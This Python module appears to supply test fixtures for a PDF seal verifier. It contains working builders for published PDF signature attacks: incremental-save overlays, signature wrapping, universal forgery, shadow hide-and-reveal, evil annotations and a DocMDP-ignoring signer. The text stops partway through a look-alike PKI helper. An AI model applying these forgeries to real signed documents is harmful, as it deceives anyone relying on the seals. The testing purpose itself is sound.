"""Hostile variants of sealed PDFs: the published attacks on PDF signatures.

Each builder takes a sealed license (PAdES, a certification signature with
DocMDP P=1, B-LT: page, seal, DSS) and returns the bytes of a forged or damaged
variant, for the verifier's tests. The attack classes follow:

- Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar
  Refund: How To Spoof PDF Signatures" (ACM CCS 2019): incremental saving
  (ISA), signature wrapping (SWA) and universal signature forgery (USF);
- Mainka, Mladenov, Rohlmann, Schwenk, "Shadow Attacks: Hiding and Replacing
  Content in Signed PDFs" (NDSS 2021): hide before signing, reveal after;
- Mainka, Mladenov, Rohlmann, Schwenk, "Breaking the Specification: PDF
  Certification" (IEEE S&P 2021): annotations and signature fields added to a
  certified document (evil annotation, sneaky signature);

plus hostile inputs (empty, not a PDF, truncated, oversized, deeply nested,
encrypted). Structured changes go through pyHanko's incremental writer; the
attacks that live at byte level (wrapping, forgery, raw updates) edit bytes.
"""

from __future__ import annotations

import io
import random
import re
from collections.abc import Mapping
from dataclasses import dataclass, replace
from datetime import datetime

from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from PIL import Image
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.sign.timestamps import TimeStamper
from pyhanko.sign.validation.dss import DocumentSecurityStore
from pyhanko_certvalidator.registry import SimpleCertificateStore
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from trustsvc.codes.identifiers import parse_identifier
from trustsvc.pki import ca
from trustsvc.seals.fields import SEAL_FIELD

#: Where the forged text goes on page 1: over the line naming the holder.
FORGED_BOX = (40, 640, 515, 44)
FORGED_TEXT = b"FORGED HOLDER CO., LTD."
#: A4, as the licenses are.
_PAGE_BOX = (0, 0, 595, 842)

# ---- reading a sealed PDF ------------------------------------------------------------

_EOF = re.compile(rb"%%EOF[ \t]*(?:\r\n|\r|\n)?")
_STARTXREF = re.compile(rb"startxref\s+(\d+)\s+%%EOF")
_SEAL = re.compile(
    rb"(?P<number>\d+) 0 obj\s*<<\s*/Contents\s*(?P<contents><(?P<hex>[0-9A-Fa-f]*)>)\s*"
    rb"/ByteRange\s*(?P<range>\[\s*(?P<a>\d+)\s+(?P<b>\d+)\s+(?P<c>\d+)\s+(?P<d>\d+)\s*\][ ]*)"
)


@dataclass(frozen=True)
class SealLayout:
    """Where the seal's signature dictionary sits in the file (byte offsets)."""

    object_number: int
    byte_range: tuple[int, int, int, int]
    #: ``<hex>`` of /Contents: the gap the byte range leaves out.
    contents_span: tuple[int, int]
    #: ``[a b c d]`` of /ByteRange and the spaces after it (room for longer values).
    range_span: tuple[int, int]
    contents: bytes

    @property
    def signed_end(self) -> int:
        return self.byte_range[2] + self.byte_range[3]


def seal_layout(pdf: bytes) -> SealLayout:
    """The first signature dictionary of the file, as pyHanko writes it."""
    match = _SEAL.search(pdf)
    assert match is not None, "no signature dictionary found"
    byte_range = (int(match["a"]), int(match["b"]), int(match["c"]), int(match["d"]))
    return SealLayout(
        object_number=int(match["number"]),
        byte_range=byte_range,
        contents_span=match.span("contents"),
        range_span=match.span("range"),
        contents=bytes.fromhex(match["hex"].decode()),
    )


def first_revision(pdf: bytes) -> bytes:
    """The document as it was before anything was appended: up to the first %%EOF."""
    match = _EOF.search(pdf)
    assert match is not None, "no %%EOF marker"
    return pdf[: match.end()]


def _reader(pdf: bytes) -> PdfFileReader:
    return PdfFileReader(io.BytesIO(pdf), strict=False)


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _serialise(obj: generic.PdfObject) -> bytes:
    output = io.BytesIO()
    obj.write_to_stream(output, None)
    return output.getvalue()


def _last_startxref(pdf: bytes) -> int:
    *_, last = _STARTXREF.finditer(pdf)
    return int(last[1])


def _literal(data: bytes) -> bytes:
    """A PDF literal string holding ``data`` byte for byte (no EOL normalisation)."""
    for plain, escaped in (
        (b"\\", b"\\\\"),
        (b"(", b"\\("),
        (b")", b"\\)"),
        (b"\r", b"\\r"),
        (b"\n", b"\\n"),
    ):
        data = data.replace(plain, escaped)
    return b"(" + data + b")"


# ---- raw incremental updates ----------------------------------------------------------


@dataclass(frozen=True)
class _Trailer:
    """What a new trailer repeats from the document's last one."""

    root: int
    info: int | None
    size: int
    id_entry: bytes


def _trailer_of(pdf: bytes) -> _Trailer:
    trailer = _reader(pdf).trailer_view
    info = trailer.raw_get("/Info") if "/Info" in trailer else None
    *_, last_trailer = re.finditer(rb"trailer\s*<<(.*?)>>\s*startxref", pdf, re.S)
    id_match = re.search(rb"/ID\s*\[[^\]]*\]", last_trailer[1])
    return _Trailer(
        root=trailer.raw_get("/Root").idnum,
        info=info.idnum if info is not None else None,
        size=int(trailer["/Size"]),
        id_entry=id_match[0] if id_match else b"",
    )


def _xref_and_trailer(
    offsets: Mapping[int, int], trailer: _Trailer, prev: int | None, extra: bytes = b""
) -> bytes:
    """An xref table for ``offsets`` and a trailer (without startxref)."""
    table = bytearray(b"xref\n0 1\n0000000000 65535 f \n")
    for number in sorted(offsets):
        table += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    size = max([trailer.size - 1, *offsets]) + 1
    info = b"/Info %d 0 R " % trailer.info if trailer.info is not None else b""
    previous = b"/Prev %d " % prev if prev is not None else b""
    table += b"trailer\n<< /Root %d 0 R %s/Size %d %s%s %s>>\n" % (
        trailer.root,
        info,
        size,
        previous,
        trailer.id_entry,
        extra,
    )
    return bytes(table)


def append_update(pdf: bytes, objects: Mapping[int, bytes], trailer_extra: bytes = b"") -> bytes:
    """A hand-written incremental update: ``objects`` (number -> body), xref, trailer."""
    trailer = _trailer_of(pdf)
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(out)
    out += _xref_and_trailer(offsets, trailer, _last_startxref(pdf), trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def _stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)


def _forged_drawing(font: bytes) -> bytes:
    """A white box over the band where the holder is named, and other text on it."""
    x, y, width, height = FORGED_BOX
    return b"q 1 1 1 rg %d %d %d %d re f 0 0 0 rg BT %s 20 Tf %d %d Td (%s) Tj ET Q" % (
        x,
        y,
        width,
        height,
        font,
        x + 10,
        y + height // 2 - 7,
        FORGED_TEXT,
    )


def _resources_with_font(
    page: generic.DictionaryObject, name: str, font: generic.IndirectObject
) -> generic.DictionaryObject:
    """A copy of the page's resources with one more font."""
    resources = generic.DictionaryObject(page["/Resources"])
    # (``get`` would return the reference, not the dictionary.)
    fonts = generic.DictionaryObject(resources["/Font"] if "/Font" in resources else {})  # noqa: SIM401
    fonts[pdf_name(name)] = font
    resources[pdf_name("/Font")] = fonts
    return resources


def _overlay_objects(pdf: bytes, first_number: int) -> dict[int, bytes]:
    """Objects that draw the forgery over page 1: a font, a content stream, the page."""
    reader = _reader(pdf)
    page_ref = reader.root["/Pages"].raw_get("/Kids").raw_get(0)
    page = generic.DictionaryObject(page_ref.get_object())
    font_number, content_number = first_number, first_number + 1
    contents = page.raw_get("/Contents")
    existing = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
    page[pdf_name("/Resources")] = _resources_with_font(
        page, "/AtkF", generic.IndirectObject(font_number, 0, reader)
    )
    page[pdf_name("/Contents")] = generic.ArrayObject(
        [*existing, generic.IndirectObject(content_number, 0, reader)]
    )
    return {
        font_number: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        content_number: _stream(_forged_drawing(b"/AtkF")),
        page_ref.idnum: _serialise(page),
    }


def _next_number(pdf: bytes) -> int:
    return _trailer_of(pdf).size


# ---- 1. incremental saving after the seal ---------------------------------------------


def _helvetica(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    return writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Helvetica"),
            }
        )
    )


def _form(
    writer: IncrementalPdfFileWriter, drawing: bytes, box: tuple[float, float, float, float]
) -> generic.IndirectObject:
    """A form XObject (an appearance) drawing ``drawing`` with Helvetica as /AtkF."""
    return writer.add_object(
        generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(generic.FloatObject(v) for v in box),
                pdf_name("/Resources"): generic.DictionaryObject(
                    {
                        pdf_name("/Font"): generic.DictionaryObject(
                            {pdf_name("/AtkF"): _helvetica(writer)}
                        )
                    }
                ),
            },
            stream_data=drawing,
        )
    )


def _corners(box: tuple[int, int, int, int]) -> tuple[float, float, float, float]:
    x, y, width, height = box
    return (x, y, x + width, y + height)


def _rect(box: tuple[int, int, int, int]) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(v) for v in _corners(box))


def overlay_content(pdf: bytes) -> bytes:
    """ISA: a content stream appended to page 1's /Contents, covering the holder's name."""
    writer = _writer(pdf)
    font = _helvetica(writer)
    content = writer.add_object(generic.StreamObject(stream_data=_forged_drawing(b"/AtkF")))
    writer.add_stream_to_page(
        0,
        content,
        resources=generic.DictionaryObject(
            {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/AtkF"): font})}
        ),
    )
    return _written(writer)


def add_page(pdf: bytes) -> bytes:
    """ISA: a second page with text of the attacker's choosing."""
    writer = _writer(pdf)
    font = _helvetica(writer)
    content = writer.add_object(
        generic.StreamObject(
            stream_data=b"BT /AtkF 24 Tf 72 760 Td (Annex: " + FORGED_TEXT + b") Tj ET"
        )
    )
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): generic.ArrayObject(generic.NumberObject(v) for v in _PAGE_BOX),
            pdf_name("/Contents"): content,
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/AtkF"): font})}
            ),
        }
    )
    writer.insert_page(page)
    return _written(writer)


def _annotate(pdf: bytes, annotation: generic.DictionaryObject) -> bytes:
    writer = _writer(pdf)
    page_ref, _resources = writer.find_page_for_modification(0)
    appearance = _form(writer, _forged_drawing(b"/AtkF"), _corners(FORGED_BOX))
    annotation[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): appearance})
    annotation[pdf_name("/P")] = page_ref
    writer.register_annotation(page_ref, writer.add_object(annotation))
    return _written(writer)


def add_annotation(pdf: bytes, subtype: str = "/FreeText") -> bytes:
    """Evil annotation: a /FreeText or /Square annotation over the holder's name."""
    entries: dict[generic.NameObject, generic.PdfObject] = {
        pdf_name("/Type"): pdf_name("/Annot"),
        pdf_name("/Subtype"): pdf_name(subtype),
        pdf_name("/Rect"): _rect(FORGED_BOX),
        pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/Contents"): generic.TextStringObject(FORGED_TEXT.decode()),
    }
    if subtype == "/FreeText":
        entries[pdf_name("/DA")] = generic.TextStringObject("/Helv 20 Tf 0 g")
    else:
        entries[pdf_name("/IC")] = generic.ArrayObject([generic.NumberObject(1)] * 3)
    return _annotate(pdf, generic.DictionaryObject(entries))


def _add_field(pdf: bytes, field: generic.DictionaryObject, drawing: bytes) -> bytes:
    """A new form field, merged with its widget on page 1, added to the AcroForm."""
    writer = _writer(pdf)
    page_ref, _resources = writer.find_page_for_modification(0)
    field[pdf_name("/Type")] = pdf_name("/Annot")
    field[pdf_name("/Subtype")] = pdf_name("/Widget")
    field[pdf_name("/Rect")] = _rect(FORGED_BOX)
    field[pdf_name("/F")] = generic.NumberObject(4)
    field[pdf_name("/P")] = page_ref
    field[pdf_name("/AP")] = generic.DictionaryObject(
        {pdf_name("/N"): _form(writer, drawing, _corners(FORGED_BOX))}
    )
    field_ref = writer.add_object(field)
    writer.register_annotation(page_ref, field_ref)
    form_entry = writer.root.raw_get("/AcroForm")
    if isinstance(form_entry, generic.IndirectObject):
        writer.mark_update(form_entry)
    else:
        writer.update_root()
    form = form_entry.get_object()
    fields_entry = form.raw_get("/Fields")
    if isinstance(fields_entry, generic.IndirectObject):
        writer.mark_update(fields_entry)
    fields_entry.get_object().append(field_ref)
    return _written(writer)


def add_text_field(pdf: bytes) -> bytes:
    """A new text form field with a value, shown over the holder's name."""
    field = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): generic.TextStringObject("Holder"),
            pdf_name("/V"): generic.TextStringObject(FORGED_TEXT.decode()),
            pdf_name("/DA"): generic.TextStringObject("/Helv 20 Tf 0 g"),
        }
    )
    return _add_field(pdf, field, _forged_drawing(b"/AtkF"))


def add_sneaky_signature_field(pdf: bytes) -> bytes:
    """Sneaky signature: an unsigned signature field whose appearance shows forged text."""
    field = generic.DictionaryObject(
        {pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): generic.TextStringObject("Approval")}
    )
    return _add_field(pdf, field, _forged_drawing(b"/AtkF"))


def replace_seal_appearance(pdf: bytes) -> bytes:
    """The seal field itself changed: its widget's appearance replaced by the forged text."""
    writer = _writer(pdf)
    [field_ref] = [
        ref
        for ref in writer.root["/AcroForm"]["/Fields"]
        if ref.get_object().get("/T") == SEAL_FIELD
    ]
    writer.mark_update(field_ref)
    field_ref.get_object()[pdf_name("/AP")] = generic.DictionaryObject(
        {pdf_name("/N"): _form(writer, _forged_drawing(b"/AtkF"), _corners(FORGED_BOX))}
    )
    return _written(writer)


class _DisobedientSigner(signers.PdfSigner):
    """A signer that ignores the author's DocMDP, as an attacker's software would.

    pyHanko refuses to sign a document certified with P=1; a forger does not ask.
    """

    def _enforce_certification_constraints(self, reader: PdfFileReader) -> None:
        return None


def sign_again(
    pdf: bytes,
    signer: signers.Signer,
    timestamper: TimeStamper | None,
    field_name: str = "Approval",
) -> bytes:
    """A second (approval) signature on the certified document, in a new field."""
    metadata = signers.PdfSignatureMetadata(
        field_name=field_name, md_algorithm="sha256", subfilter=fields.SigSeedSubFilter.PADES
    )
    pdf_signer = _DisobedientSigner(
        metadata,
        signer,
        timestamper=timestamper,
        new_field_spec=fields.SigFieldSpec(field_name, on_page=0, box=(60, 60, 180, 180)),
    )
    return pdf_signer.sign_pdf(_writer(pdf)).getvalue()


def redefine_page_content(pdf: bytes) -> bytes:
    """An existing object replaced: page 1's content stream redefined under its own number."""
    reader = _reader(pdf)
    page_ref = reader.root["/Pages"].raw_get("/Kids").raw_get(0)
    page = page_ref.get_object()
    contents = page.raw_get("/Contents")
    target = contents.raw_get(0) if isinstance(contents, generic.ArrayObject) else contents
    original = target.get_object().data
    font = _next_number(pdf)
    # The original drawing, then the forgery; the font comes with the page's own resources.
    redefined_page = generic.DictionaryObject(page)
    redefined_page[pdf_name("/Resources")] = _resources_with_font(
        page, "/AtkF", generic.IndirectObject(font, 0, reader)
    )
    return append_update(
        pdf,
        {
            font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            target.idnum: _stream(original + b"\n" + _forged_drawing(b"/AtkF")),
            page_ref.idnum: _serialise(redefined_page),
        },
    )


# ---- 2. bytes after the final %%EOF ----------------------------------------------------


def append_garbage(pdf: bytes) -> bytes:
    """Bytes after %%EOF that no revision accounts for (here: a PDF comment and binary)."""
    return pdf + b"% appended after the seal: " + FORGED_TEXT + b"\n" + bytes(range(256))


def append_raw_overlay_update(pdf: bytes) -> bytes:
    """A whole incremental update written by hand: page 1 with the forged overlay."""
    return append_update(pdf, _overlay_objects(pdf, _next_number(pdf)))


def append_raw_unreferenced_object(pdf: bytes) -> bytes:
    """An update adding only an object nothing refers to (a payload for a later reveal)."""
    return append_update(pdf, {_next_number(pdf): _stream(_forged_drawing(b"/F1"))})


def append_raw_empty_update(pdf: bytes) -> bytes:
    """An update with no objects at all: only an xref section and a trailer."""
    return append_update(pdf, {})


# ---- 3. signature wrapping ---------------------------------------------------------------


def _sig_dict_tail(pdf: bytes, layout: SealLayout) -> bytes:
    """The signature dictionary after /ByteRange, up to and including ``endobj``."""
    end = pdf.index(b"endobj", layout.range_span[1]) + len(b"endobj")
    return pdf[layout.range_span[1] : end]


def move_second_range(pdf: bytes) -> bytes:
    """SWA, naive: /ByteRange edited in place so that both ranges cover other bytes."""
    layout = seal_layout(pdf)
    _, length1, start2, length2 = layout.byte_range
    shifted = b"[0 %d %d %d]" % (length1 - 100, start2 - 100, length2)
    return _rewrite(pdf, layout.range_span, shifted)


def _new_byte_range(out: bytearray) -> int:
    """Append a /ByteRange of fixed width to fill in later; return where its values start."""
    out += b"\n/ByteRange ["
    at = len(out)
    out += b"%010d %010d %010d %010d]" % (0, 0, 0, 0)
    return at


def _objects(first_offset: int, objects: Mapping[int, bytes]) -> tuple[bytes, dict[int, int]]:
    """Objects serialised one after another from ``first_offset``, and their offsets."""
    out = bytearray()
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = first_offset + len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return bytes(out), offsets


def wrap_signed_tail_in_stream(pdf: bytes) -> bytes:
    """SWA: the gap enlarged; the signed second part moved into a stream object.

    The signature dictionary is ended early with a new /ByteRange whose second
    range points at the original signed bytes, now inside a dummy stream; the
    forged page follows, and a new xref section makes it current. The signed
    bytes are unchanged, so the digest still matches.
    """
    layout = seal_layout(pdf)
    _, length1, start2, length2 = layout.byte_range
    seal_revision = pdf[: layout.signed_end]
    signed_tail = pdf[start2 : start2 + length2]
    number = _next_number(pdf)
    out = bytearray(pdf[: layout.contents_span[1]])
    values_at = _new_byte_range(out)
    out += _sig_dict_tail(pdf, layout)
    out += b"\n%d 0 obj\n<< /Length %d >>\nstream\n" % (number, length2)
    tail_at = len(out)
    out[values_at : values_at + 43] = b"%010d %010d %010d %010d" % (0, length1, tail_at, length2)
    out += signed_tail + b"\nendstream\nendobj\n"
    objects, offsets = _objects(len(out), _overlay_objects(seal_revision, number + 1))
    out += objects
    xref_at = len(out)
    # The moved signed tail holds the seal revision's xref (its offsets all point
    # before the gap, so they still hold): the new section chains to it.
    previous = tail_at + signed_tail.index(b"xref")
    out += _xref_and_trailer(offsets, _trailer_of(seal_revision), previous)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def wrap_signed_tail_at_end(pdf: bytes) -> bytes:
    """SWA: the signed second part moved to the very end of the file.

    The seal's own startxref (inside the moved bytes, so still the file's last)
    is made to point at a new xref section placed at exactly that offset; it
    lists every object of the seal revision and the forged page. The new
    /ByteRange points at the moved bytes.
    """
    layout = seal_layout(pdf)
    _, length1, start2, length2 = layout.byte_range
    seal_revision = pdf[: layout.signed_end]
    signed_tail = pdf[start2 : start2 + length2]
    old_startxref = _last_startxref(seal_revision)
    out = bytearray(pdf[: layout.contents_span[1]])
    values_at = _new_byte_range(out)
    out += _sig_dict_tail(pdf, layout) + b"\n"
    assert len(out) + 2 <= old_startxref, "the dictionary does not fit before the old xref"
    out += b"%" + b" " * (old_startxref - len(out) - 2) + b"\n"
    # Every object of the seal revision is still where it was (all before the gap).
    offsets = {int(m[1]): m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj", pdf[:length1])}
    overlay = _overlay_objects(seal_revision, _next_number(pdf))
    trailer = _trailer_of(seal_revision)
    # Xref entries have a fixed width: the table's length is known before the offsets.
    table_length = len(_xref_and_trailer({**offsets, **dict.fromkeys(overlay, 0)}, trailer, None))
    objects, overlay_offsets = _objects(old_startxref + table_length, overlay)
    out += _xref_and_trailer({**offsets, **overlay_offsets}, trailer, None)
    out += objects + b"%"
    out[values_at : values_at + 43] = b"%010d %010d %010d %010d" % (0, length1, len(out), length2)
    out += signed_tail
    return bytes(out)


def redefine_seal_with_literal_contents(pdf: bytes) -> bytes:
    """Wrapping without moving anything: the signature dictionary redefined in an update.

    The untouched sealed file is followed by an update that redraws page 1 and
    redefines the seal's signature dictionary with the same /ByteRange and the
    same CMS, written as a literal string padded with zero bytes. A verifier
    that decides "the signature covers the entire file" from
    ``len1 + len2 + 2 * len(contents) + 2 == file size`` (which assumes a hex
    string in the gap) is satisfied by choosing the padding, and then skips the
    check of what was appended.
    """
    layout = seal_layout(pdf)
    _, length1, _, length2 = layout.byte_range
    reader = _reader(pdf)
    signature = generic.DictionaryObject(
        reader.get_object(generic.Reference(layout.object_number, 0))
    )
    del signature["/Contents"]
    rest = _serialise(signature)[2:]  # without its opening "<<"
    number = _next_number(pdf)
    overlay = _overlay_objects(pdf, number)

    def build(padding: int) -> bytes:
        contents = layout.contents + bytes(padding)
        objects = {**overlay, layout.object_number: b"<< /Contents " + _literal(contents) + rest}
        return append_update(pdf, objects)

    unpadded = build(0)
    # Each zero byte adds one byte to the file and two to the size claimed from the hex form.
    padding = len(unpadded) - (length1 + length2 + 2 * len(layout.contents) + 2)
    forged = build(padding)
    assert len(forged) == length1 + length2 + 2 * (len(layout.contents) + padding) + 2
    return forged


# ---- 4. universal signature forgery ---------------------------------------------------


def _rewrite(pdf: bytes, span: tuple[int, int], new: bytes) -> bytes:
    """Bytes ``span`` replaced by ``new`` padded with spaces: every offset stays valid."""
    start, end = span
    assert len(new) <= end - start, "the replacement does not fit"
    return pdf[:start] + new.ljust(end - start) + pdf[end:]


def contents_zeroed(pdf: bytes) -> bytes:
    layout = seal_layout(pdf)
    start, end = layout.contents_span
    return _rewrite(pdf, layout.contents_span, b"<" + b"0" * (end - start - 2) + b">")


def contents_emptied(pdf: bytes) -> bytes:
    return _rewrite(pdf, seal_layout(pdf).contents_span, b"<>")


def contents_random(pdf: bytes) -> bytes:
    layout = seal_layout(pdf)
    noise = random.Random(2019).randbytes(len(layout.contents))
    return _rewrite(pdf, layout.contents_span, b"<" + noise.hex().upper().encode() + b">")


def contents_of(pdf: bytes, other: bytes) -> bytes:
    """The signature value of another document pasted into this one's gap."""
    layout, donor = seal_layout(pdf), seal_layout(other)
    hex_value = donor.contents.hex().upper().encode()
    width = layout.contents_span[1] - layout.contents_span[0] - 2
    assert len(hex_value) <= width
    return _rewrite(pdf, layout.contents_span, b"<" + hex_value.ljust(width, b"0") + b">")


def byte_range_removed(pdf: bytes) -> bytes:
    layout = seal_layout(pdf)
    start = pdf.rindex(b"/ByteRange", 0, layout.range_span[0])
    return _rewrite(pdf, (start, layout.range_span[1]), b"")


def byte_range_set(pdf: bytes, value: bytes) -> bytes:
    """/ByteRange given another value, e.g. ``[0 0 0 0]`` or negative numbers."""
    return _rewrite(pdf, seal_layout(pdf).range_span, value)


def signature_entry_rewritten(pdf: bytes, entry: bytes, new: bytes) -> bytes:
    """One entry of the signature dictionary (``/Filter /Adobe.PPKLite``) replaced."""
    layout = seal_layout(pdf)
    start = pdf.index(entry, layout.range_span[1])
    return _rewrite(pdf, (start, start + len(entry)), new)


def signature_type_changed(pdf: bytes) -> bytes:
    """The seal's /Type /Sig turned into /DocTimeStamp (space taken from the range padding)."""
    layout = seal_layout(pdf)
    start = layout.range_span[0]
    end = pdf.index(b"/Type /Sig", start) + len(b"/Type /Sig")
    value = pdf[start : layout.range_span[1]].rstrip()
    return _rewrite(pdf, (start, end), value + b" /Type /DocTimeStamp")


def seal_value_detached(pdf: bytes) -> bytes:
    """The seal field's /V (its signature) removed: a field that was never signed."""
    layout = seal_layout(pdf)
    match = re.search(rb"/V %d 0 R" % layout.object_number, pdf)
    assert match is not None
    return _rewrite(pdf, match.span(), b"")


# ---- 5. shadow attacks -----------------------------------------------------------------


def shadow_base(identifier: str) -> bytes:
    """A plain one-page document naming ``identifier`` (a license the library never issued)."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, pagesize=_PAGE_BOX[2:])
    canvas.setKeywords(identifier)
    canvas.setFont("Helvetica", 20)
    canvas.drawString(60, 655, "HONEST TRADING CO., LTD.")
    canvas.save()
    return buffer.getvalue()


def unissued_identifier(issued: str, serial: str = "999999999999") -> str:
    """An identifier of the same issuer and type with a serial the library has not used."""
    return str(replace(parse_identifier(issued), serial=serial))


def shadow_document(pdf: bytes) -> bytes:
    """Hide, before sealing: everything a later reveal needs, drawn invisibly or not at all.

    - ``/ShadowShown`` (an empty form) is drawn; ``/ShadowHidden`` (the forgery)
      is in the page's resources too;
    - the forgery is also drawn inside optional content ``/ShadowOC``, off by default;
    - a full replacement page content, marked ``/ShadowReplacement``, nothing refers to;
    - a second definition of ``/ShadowShown``'s object number holding the forgery,
      in an update whose xref does not list it.
    """
    writer = _writer(pdf)
    box = _PAGE_BOX
    shown = _form(writer, b"% nothing to see", box)
    hidden = _form(writer, _forged_drawing(b"/AtkF"), box)
    group = writer.add_object(
        generic.DictionaryObject(
            {pdf_name("/Type"): pdf_name("/OCG"), pdf_name("/Name"): generic.TextStringObject("S")}
        )
    )
    font = _helvetica(writer)
    writer.add_object(
        generic.StreamObject(
            {pdf_name("/ShadowReplacement"): generic.BooleanObject(True)},
            stream_data=_forged_drawing(b"/ShadowF"),
        )
    )
    drawing = b"q /ShadowShown Do Q /OC /ShadowOC BDC q /ShadowHidden Do Q EMC"
    writer.add_stream_to_page(
        0,
        writer.add_object(generic.StreamObject(stream_data=drawing)),
        resources=generic.DictionaryObject(
            {
                pdf_name("/XObject"): generic.DictionaryObject(
                    {pdf_name("/ShadowShown"): shown, pdf_name("/ShadowHidden"): hidden}
                ),
                pdf_name("/Font"): generic.DictionaryObject({pdf_name("/ShadowF"): font}),
                pdf_name("/Properties"): generic.DictionaryObject({pdf_name("/ShadowOC"): group}),
            }
        ),
    )
    writer.root[pdf_name("/OCProperties")] = generic.DictionaryObject(
        {
            pdf_name("/OCGs"): generic.ArrayObject([group]),
            pdf_name("/D"): generic.DictionaryObject(
                {
                    pdf_name("/Order"): generic.ArrayObject([group]),
                    pdf_name("/OFF"): generic.ArrayObject([group]),
                }
            ),
        }
    )
    writer.update_root()
    prepared = _written(writer)
    duplicate = b"%d 0 obj\n%s\nendobj\n" % (shown.idnum, _serialise(hidden.get_object()))
    out = prepared + duplicate
    xref_at = len(out)
    out += _xref_and_trailer({}, _trailer_of(prepared), _last_startxref(prepared))
    return out + b"startxref\n%d\n%%%%EOF\n" % xref_at


def _page_xobjects(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    """Page 1's /XObject resources, with the object that holds them marked for update."""
    page_ref, resources_ref = writer.find_page_for_modification(0)
    container = resources_ref if isinstance(resources_ref, generic.IndirectObject) else page_ref
    entry = resources_ref.get_object().raw_get("/XObject")
    if isinstance(entry, generic.IndirectObject):
        container = entry
    writer.mark_update(container)
    xobjects: generic.DictionaryObject = entry.get_object()
    return xobjects


def reveal_by_xobject_swap(pdf: bytes) -> bytes:
    """Reveal: the drawn name /ShadowShown made to refer to the hidden forgery."""
    writer = _writer(pdf)
    xobjects = _page_xobjects(writer)
    xobjects[pdf_name("/ShadowShown")] = xobjects.raw_get("/ShadowHidden")
    return _written(writer)


def reveal_by_contents_swap(pdf: bytes) -> bytes:
    """Reveal: page 1's /Contents pointed at the unreferenced replacement content."""
    match = re.search(rb"(\d+) 0 obj\s*<<\s*/ShadowReplacement", pdf)
    assert match is not None
    writer = _writer(pdf)
    page_ref, _resources = writer.find_page_for_modification(0)
    writer.mark_update(page_ref)
    page_ref.get_object()[pdf_name("/Contents")] = generic.IndirectObject(int(match[1]), 0, writer)
    return _written(writer)


def reveal_by_optional_content(pdf: bytes) -> bytes:
    """Reveal: the optional content group holding the forgery switched on."""
    writer = _writer(pdf)
    properties = writer.root["/OCProperties"]
    group = properties["/OCGs"].raw_get(0)
    properties[pdf_name("/D")] = generic.DictionaryObject(
        {
            pdf_name("/Order"): generic.ArrayObject([group]),
            pdf_name("/ON"): generic.ArrayObject([group]),
            pdf_name("/OFF"): generic.ArrayObject(),
        }
    )
    writer.update_root()
    return _written(writer)


def reveal_by_xref_only(pdf: bytes) -> bytes:
    """Reveal with no new object: an xref entry sends /ShadowShown's number to its hidden twin."""
    writer = _writer(pdf)
    _page_ref, resources_ref = writer.find_page_for_modification(0)
    shown = resources_ref.get_object()["/XObject"].raw_get("/ShadowShown").idnum
    *_, twin = re.finditer(rb"(?<![0-9])%d 0 obj" % shown, pdf)
    out = bytearray(pdf)
    xref_at = len(out)
    out += _xref_and_trailer({shown: twin.start()}, _trailer_of(pdf), _last_startxref(pdf))
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


# ---- 7. a look-alike PKI -----------------------------------------------------------------


@dataclass(frozen=True)
class LookalikePki:
    """A root, an issuing CA and a seal certificate whose names copy the service's."""

    root: x509.Certificate
    issuing: x509.Certificate
    seal: x509.Certificate
    seal_key: ec.EllipticCurvePrivateKey


def lookalike_pki(
    root_subject: x509.Name,
    issuing_subject: x509.Name,
    seal_subject: x509.Name,
    urls: ca.PkiUrls,
    now: datetime,
) -> LookalikePki:
    """Built with the service's own certificate profiles, but with keys of the attacker."""
    root_key = ec.generate_private_key(ec.SECP256R1())
    issuing_key = ec.generate_private_key(ec.SECP256R1())
    seal_key = ec.generate_private_key(ec.SECP256R1())
    root = ca.build_root_ca(root_key, root_subject, now)
    issuing = ca.build_issuing_ca(issuing_key, issuing_subject, root, root_key, urls, now)
